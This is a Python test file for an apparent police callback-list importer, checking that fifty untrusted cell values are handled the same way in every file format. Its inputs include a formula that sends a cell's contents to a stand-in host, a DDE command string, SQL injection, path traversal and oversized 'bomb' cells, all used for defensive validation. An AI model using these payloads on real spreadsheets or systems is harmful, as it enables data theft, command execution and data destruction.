"""Fifty values nobody should trust, in every format: one verdict, and what is kept is kept letter by letter."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pytest

from callback_desk.domain.errors import ImportRefused
from callback_desk.domain.incident import Sign
from callback_desk.domain.phone import NotDiallable
from tests.intake.reading import HEADING, Read, read
from tests.intake.written import FORMATS

HEADINGS = [*HEADING.split(","), "Victim Address", "Domestic Violence", "Notes"]
ADA = [
    "26-000101",
    "11/20/2026 00:05",
    "220",
    "Quillfeather, Ada",
    "04/22/1980",
    "312-555-0142",
    "12 Larch St",
    "N",
    "",
]
CASE, REPORTED, CODE, NAME, BORN, PHONE, ADDRESS, DOMESTIC, NOTES = range(9)
POLICE = "+13125550199"
# What XML cannot hold makes a sheet unreadable; a line of text has an end; a bomb's check comes before a cell's length.
NO_XML = {"ods": "E13"}
LONG = {"csv": "E23", "tsv": "E23", "zip": "E23"}
BOMB = {**LONG, "xlsx": "E10", "ods": "E10", "zip": "E10"}

Check = Callable[[Read], bool]


def kept(value: str) -> Check:
    """The name, as it was written but for blanks around it."""
    return lambda f: [each.name.original for each in f.people] == [value.strip()]


def because(reason: str) -> Check:
    return lambda f: f.reasons == {reason} and not f.people


def not_dialled(why: NotDiallable) -> Check:
    return lambda f: [each.why_not for each in f.people[0].phones] == [why]


def dialled(*numbers: str, extension: str = "") -> Check:
    return lambda f: (
        [(each.number.e164, each.number.extension) if each.number else None for each in f.people[0].phones]
        == [(number, extension) for number in numbers]
    )


def case(value: str) -> Check:
    return lambda f: f.people[0].facts.case_number == value


def warned(word: str) -> Check:
    return lambda f: word in f.people[0].warnings


def address(value: str) -> Check:
    return lambda f: f.people[0].address == value


FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"ok")'
MARKUP = "<img src=/etc/hostname> & <para> <"
AWKWARD = 'a/b:*?"<>|'
ADA_BUT = "312-555-0142"

# name, column, value, check, formats in which the whole file is refused and with what
VALUES: list[tuple[str, int, str, Check, dict[str, str]]] = [
    ("V01 a formula as a name", NAME, FORMULA, kept(FORMULA), {}),
    ("V01b a formula as an address", ADDRESS, FORMULA, address(FORMULA), {}),
    ("V02 a command", NAME, "=cmd'calc'!A1", kept("=cmd'calc'!A1"), {}),
    ("V02b strokes may part names", NAME, "=cmd|'/c calc'!A1", because("several_names"), {}),
    ("V03 a number with a plus", PHONE, "+13125550142", dialled("+13125550142"), {}),
    ("V04 a minus", NAME, "-2+3+cmd", kept("-2+3+cmd"), {}),
    ("V05 an at", NAME, "@SUM(1+1)", kept("@SUM(1+1)"), {}),
    ("V06 a tab before it", NAME, "\t=1+1", kept("=1+1"), {}),
    ("V07 a line break before it", NAME, "\n=1+1", kept("=1+1"), {}),
    ("V08 a full-width equals sign", NAME, "\uff1d1+1", kept("\uff1d1+1"), {}),
    (
        "V09 a blank of no width",
        NAME,
        "\u200b=1",
        lambda f: kept("=1")(f) and warned("hidden_characters_removed")(f),
        {},
    ),
    ("V10 NUL", NAME, "A\x00da Quill", because("hidden_characters"), NO_XML),
    ("V11 a control", NAME, "A\x07da Quill", because("hidden_characters"), NO_XML),
    ("V12 an escape sequence", NAME, "\x1b[31mAda", because("hidden_characters"), NO_XML),
    ("V12b a control of the upper half", NAME, "A\x9bda", because("hidden_characters"), {}),
    ("V12c delete", NAME, "A\x7fda", because("hidden_characters"), {}),
    ("V13 right to left, by force", NAME, "Ada \u202eliuQ", because("hidden_characters"), {}),
    ("V14 a Hebrew name in isolates", NAME, "\u2067דנה לוי\u2069", lambda f: len(f.people) == 1, {}),
    ("V15 a joiner inside a name", NAME, "نوید می\u200cخواهم", kept("نوید می\u200cخواهم"), {}),
    ("V15b a family", NAME, "Ada 👩\u200d👩\u200d👧", kept("Ada 👩\u200d👩\u200d👧"), {}),
    ("V16 a pile of marks", NAME, "A" + "\u0301" * 100, because("hidden_characters"), {}),
    ("V18 no character at all", NAME, "A\uffffda", because("hidden_characters"), NO_XML),
    ("V18b letters lost", NAME, "Jos\ufffd Pe\ufffda", warned("letters_lost"), {}),
    ("V19 a name of 300,000 letters", NAME, "A" * 300_000, because("cell_too_long"), LONG),
    ("V19b a name of two million letters", NAME, "A" * 2_000_000, because("cell_too_long"), BOMB),
    ("V20 only blanks", NAME, " \u00a0 ", because("no_name"), {}),
    (
        "V21 no-break blanks and double ones",
        NAME,
        "\u00a0Ada\u00a0 Quill ",
        lambda f: f.people[0].name.last == "Quill",
        {},
    ),
    *(
        (f"V22 the name {word}", NAME, f"{word}, Ada", lambda f: len(f.people) == 1, {})
        for word in ("Null", "NaN", "1e5")
    ),
    ("V23 a statement", NAME, "Robert') DROP TABLE person--", kept("Robert') DROP TABLE person--"), {}),
    ("V23b semicolons may part names", NAME, "Robert'); DROP TABLE person;--", because("several_names"), {}),
    ("V24 a picture", NAME, MARKUP, kept(MARKUP), {}),
    ("V25 markup as an address", ADDRESS, MARKUP, address(MARKUP), {}),
    ("V26 a template", NAME, "%s%n{0.__class__}${x}", kept("%s%n{0.__class__}${x}"), {}),
    ("V27 a case number that climbs", CASE, "..\\..\\evil", case("..\\..\\evil"), {}),
    ("V28 a case number of a device", CASE, "aux.pdf.", case("aux.pdf."), {}),
    ("V29 a case number of signs", CASE, AWKWARD, case(AWKWARD), {}),
    ("V30 a case number of 400", CASE, "9" * 400, because("cell_too_long"), {}),
    ("V31 the emergency number", PHONE, "911", not_dialled(NotDiallable.EMERGENCY), {}),
    ("V32 a premium number", PHONE, "1-900-555-0142", not_dialled(NotDiallable.PREMIUM), {}),
    ("V33 a shortened number", PHONE, "5.55E+09", not_dialled(NotDiallable.SHORTENED), {}),
    ("V35 no area code", PHONE, "555-0142", not_dialled(NotDiallable.NO_AREA_CODE), {}),
    ("V36 an extension", PHONE, "(312) 555-0142 x7", dialled("+13125550142", extension="7"), {}),
    ("V37 letters", PHONE, "1-800-FLOWERS", not_dialled(NotDiallable.LETTERS), {}),
    ("V38 two in one cell", PHONE, "312-555-0142 / 217-555-0144", dialled("+13125550142", "+12175550144"), {}),
    ("V39 full-width digits", PHONE, "３１２-５５５-０１４２", dialled("+13125550142"), {}),
    ("V40 the station's own", PHONE, "312-555-0199", not_dialled(NotDiallable.POLICE), {}),
    ("V41 a day that may be a month", REPORTED, "11/10/2026", lambda f: len(f.people) == 1, {}),
    ("V42 a day that is none", REPORTED, "31/31/2026", because("bad_report_date"), {}),
    ("V44 a day to come", REPORTED, "11/20/2099", because("bad_report_date"), {}),
    ("V44b born too long ago", BORN, "04/22/1850", warned("bad_birth_date"), {}),
    ("V46 an unknown offense", CODE, "ZZ9", lambda f: f.people[0].facts.offense_codes == (), {}),
    ("V46b a padded offense", CODE, " 23f ", lambda f: f.people[0].facts.offense_codes == ("23F",), {}),
    ("V47 do not call", NOTES, "Do not contact.", lambda f: Sign.DO_NOT_CALL in f.people[0].facts.signs, {}),
    ("V47b domestic", DOMESTIC, "Y", lambda f: Sign.DOMESTIC in f.people[0].facts.signs, {}),
    ("V50 neither yes nor no", DOMESTIC, "maybe", warned("domestic_unsure"), {}),
]


@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize(("column", "value", "check", "refusals"), [v[1:] for v in VALUES], ids=[v[0] for v in VALUES])
def test_the_verdict_is_the_same_in_every_format(
    column: int, value: str, check: Check, refusals: dict[str, str], name: str, tmp_path: Path
) -> None:
    row = [value if index == column else cell for index, cell in enumerate(ADA)]
    path = tmp_path / f"list.{name}"
    path.write_bytes(FORMATS[name]([HEADINGS, row]))
    started = time.process_time()
    try:
        found = read(path, police=frozenset({POLICE}))
    except ImportRefused as refused:
        assert refused.code == refusals.get(name), refused.sentence
        assert value[:40] not in refused.sentence
    else:
        assert name not in refusals
        assert found.counts.rows == 1
        assert check(found), (found.people, found.problems, found.guess.findings)
    assert time.process_time() - started < 10
    assert [each.name for each in tmp_path.iterdir()] == [path.name]


@pytest.mark.parametrize("name", FORMATS)
def test_the_same_number_on_two_people_and_one_case_on_two_rows(name: str, tmp_path: Path) -> None:
    """V48 and V49: nothing is merged while reading; the desk compares."""
    ben = [ADA[CASE], *ADA[1:NAME], "Larkspur, Ben", *ADA[BORN:]]
    path = tmp_path / f"list.{name}"
    path.write_bytes(FORMATS[name]([HEADINGS, ADA, ben, ADA]))
    found = read(path)
    assert [each.name.first for each in found.people] == ["Ada", "Ben", "Ada"]
    assert found.people[0].row_digest == found.people[2].row_digest != found.people[1].row_digest
    assert found.counts.phones.distinct == 1


@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("serial", ["0", "60", "-1", "2958466"])
def test_v43_a_number_that_is_no_day_is_no_date(serial: str, name: str, tmp_path: Path) -> None:
    """60 is the 29th of February 1900, which never was; 2958466 is the day after the last."""
    bad = [serial if index == REPORTED else cell for index, cell in enumerate(ADA)]
    path = tmp_path / f"list.{name}"
    path.write_bytes(FORMATS[name]([HEADINGS, bad, *[ADA] * 9]))
    found = read(path)
    assert [(each.place.line, each.reason) for each in found.problems] == [(2, "bad_report_date")]
    assert len(found.people) == 9
